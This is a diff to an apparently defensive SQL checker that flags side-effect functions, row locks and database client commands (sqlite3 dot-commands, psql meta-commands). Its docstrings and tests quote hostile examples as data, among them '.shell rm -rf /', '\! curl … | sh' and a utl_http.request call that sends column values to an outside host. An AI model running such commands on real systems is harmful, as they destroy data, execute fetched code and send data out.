@@ -191,6 +191,18 @@ SIDE_EFFECT_FUNCTIONS = frozenset(
         "openquery",
         # Oracle: a URL read as a document (BigQuery's EXTERNAL_QUERY is not here: Cloud SQL runs it read-only)
         "httpuritype",
+        # the sqlite3 shell's editor (runs $VISUAL); DuckDB: any file of the host, as text or bytes
+        "edit",
+        "read_text",
+        "read_blob",
+        # ClickHouse table functions: a URL requested (the query's values in it), other servers
+        # queried, a program run, the server's files
+        "url",
+        "urlcluster",
+        "remote",
+        "remotesecure",
+        "executable",
+        "file",
         # Snowflake: sessions and queries stopped, waits, e-mail sent
         "system$wait",
         "system$cancel_query",
@@ -238,11 +250,12 @@ SIDE_EFFECT_PACKAGES = frozenset(
 
 
 def _may_write(text: str, dialect: str) -> bool:
-    """Pre-check before walking the tree: does the text hold a write keyword of the dialect, or
-    the name of a :data:`SIDE_EFFECT_FUNCTIONS` function, anywhere (case-insensitive)? A superset
+    """Pre-check before walking the tree: does the text hold a write keyword of the dialect, a row
+    lock's ``SHARE`` or ``…LOCK``, or the name of a :data:`SIDE_EFFECT_FUNCTIONS` function, anywhere
+    (case-insensitive)? A superset
     test: the tree, not this, decides what is flagged."""
     upper = text.upper()
-    if any(word in upper for word in _write_words(dialect)):
+    if any(word in upper for word in _write_words(dialect)) or "SHARE" in upper or "LOCK" in upper:  # row locks
         return True
     lower = text.lower()
     return any(name in lower for name in SIDE_EFFECT_FUNCTIONS) or any(name in lower for name in SIDE_EFFECT_PACKAGES)
@@ -425,6 +438,11 @@ _VARIABLE_MARKERS = frozenset({TokenType.PARAMETER, TokenType.SESSION_PARAMETER}
 """Tokens that start a variable: ``@`` (in the generic dialect ``@@`` is two of them) and MySQL's ``@@``."""
 
 
+WRITE_LOCK_HINTS = frozenset({"UPDLOCK", "XLOCK", "TABLOCKX"})
+"""SQL Server table hints that take update or exclusive locks (``FROM t WITH (UPDLOCK)``), as
+``FOR UPDATE`` does elsewhere; ``NOLOCK`` and the other read hints take none."""
+
+
 def embedded_writes(query: exp.Expr) -> list[str]:
     """Writes inside a query statement: ``SELECT ... INTO t``, data-modifying CTEs, and calls of
     :data:`SIDE_EFFECT_FUNCTIONS` (``SELECT load_extension('/tmp/x.so')``).
@@ -438,14 +456,26 @@ def embedded_writes(query: exp.Expr) -> list[str]:
     ['PG_READ_FILE() (inside the query)']
     >>> embedded_writes(sqlglot.parse_one("SELECT utl_http.request('http://x.example/' || name) FROM users", read="oracle"))
     ['UTL_HTTP.REQUEST() (inside the query)']
+    >>> embedded_writes(sqlglot.parse_one("SELECT name FROM users FOR UPDATE SKIP LOCKED", read="postgres"))
+    ['SELECT FOR UPDATE']
     """
     writes: list[str] = []
     into: list[str] = []
     for node in query.walk():  # one walk for every kind
         if isinstance(node, WRITE_TYPES):
             writes.append(f"{node.key.upper()} (inside the query)")
-        elif isinstance(node, exp.Select) and node.args.get("into") is not None:
-            into.append("SELECT INTO")
+        elif isinstance(node, exp.Select) and (node.args.get("into") is not None or node.args.get("locks")):
+            if node.args.get("into") is not None:
+                into.append("SELECT INTO")
+            locks = node.args.get("locks") or []
+            if locks:  # row locks block the writers of the rows; a read-only transaction refuses them
+                into.append(
+                    "SELECT FOR UPDATE" if any(lock.args.get("update") for lock in locks) else "SELECT FOR SHARE"
+                )
+        elif isinstance(node, exp.WithTableHint) and any(
+            hint.name.upper() in WRITE_LOCK_HINTS for hint in node.expressions if isinstance(hint, exp.Var)
+        ):
+            into.append("SELECT FOR UPDATE")
         elif isinstance(node, exp.Func):
             name = node.name if isinstance(node, exp.Anonymous) else node.sql_name()
             package = node.parent.this.name if isinstance(node.parent, exp.Dot) and node.arg_key == "expression" else ""
@@ -754,6 +784,62 @@ def _into_file_writes(text: str, dialect: str) -> list[str]:
     return []
 
 
+SQLITE_DOT_COMMANDS = frozenset(
+    {"shell", "system", "output", "once", "excel", "www", "save", "backup", "restore", "clone", "import", "read"}
+    | {"load", "open", "cd", "log", "trace", "iotrace", "archive", "ar"}
+)
+"""Dot-commands of the ``sqlite3`` (and DuckDB) command-line shell that run a program or a shell
+command, write or read a file, load code or open another database (SQLite CLI reference,
+"Special commands to sqlite3"). The shell runs them at the start of a line, outside SQL."""
+PSQL_COMMANDS = frozenset(
+    {"!", "o", "out", "w", "write", "copy", "i", "include", "ir", "include_relative", "gexec", "setenv", "cd"}
+    | {"lo_import", "lo_export", "lo_unlink", "c", "connect", "e", "edit", "ef", "ev", "T", "."}
+)
+r"""Backslash meta-commands of ``psql`` (and the ``mysql`` client's ``\!``, ``\T`` tee and ``\.``
+source) that run a shell command, write or read a file, run query results as SQL, open an editor
+or connect elsewhere; ``\g`` counts with a file or command argument."""
+_LINE_MARKERS = ("> ", "- ", "* ", "+ ", "`")
+"""Markdown that may precede a command on its line (a quote, a list item, an inline code span)."""
+
+
+def client_commands(part: str) -> list[str]:
+    r"""Commands of a database's command-line client in a part of a message: ``sqlite3``'s
+    dot-commands at the start of a line (:data:`SQLITE_DOT_COMMANDS`: ``.shell rm -rf /``,
+    ``.output /tmp/x``) and ``psql``'s backslash meta-commands anywhere (:data:`PSQL_COMMANDS`:
+    ``\! curl … | sh``, ``\o /tmp/x``, ``\gexec``). A harness that feeds the message to the
+    client runs them with the SQL; no SQL parser reads them.
+
+    Returns:
+        Their kinds in order, as :func:`hidden_statements` gives them (``".shell (client
+        command)"``).
+
+    >>> client_commands(".shell rm -rf /\nSELECT 1;"), client_commands("1. \\! id\nSELECT 1 \\g /tmp/out")
+    (['.shell (client command)'], ['\\! (client command)', '\\g (client command)'])
+    >>> client_commands("... Open the file.\n. Open it\nThe .output command; use '\\n' and \\begin{code}")
+    []
+    """
+    kinds: list[str] = []
+    for line in part.splitlines():
+        start = line.strip()
+        while start.startswith(_LINE_MARKERS):
+            start = start[1:].lstrip()
+        if start.split(". ", 1)[0].isdigit() or start.split(") ", 1)[0].isdigit():  # a numbered list item
+            start = start.split(" ", 1)[1].lstrip() if " " in start else ""
+        name = start[1:].split(None, 1)[0].rstrip("`") if start.startswith(".") and start[1:2].isalpha() else ""
+        if name in SQLITE_DOT_COMMANDS:
+            kinds.append(f".{name} (client command)")
+        words = line.split()
+        for position, word in enumerate(words):
+            command = word.lstrip("`>")[1:].rstrip("`") if word.lstrip("`>").startswith("\\") else None
+            if command is None:
+                continue
+            if command.startswith("!"):
+                command = "!"
+            if command in PSQL_COMMANDS or (command == "g" and position + 1 < len(words)):
+                kinds.append(f"\\{command} (client command)")
+    return kinds
+
+
 def hidden_statements(parts: tuple[str, ...] | list[str], dialect: str, *, into_files: bool = False) -> list[str]:
     """Non-SELECT statements in the parts of a message that are not its SQL (prose, other code blocks).
 
@@ -796,6 +882,7 @@ def hidden_statements(parts: tuple[str, ...] | list[str], dialect: str, *, into_
     kinds: list[str] = []
     tried = 0
     for part in parts:
+        kinds.extend(client_commands(part))
         tokens = _tokens_of(part, dialect)
         index = 0
         while index < len(tokens):
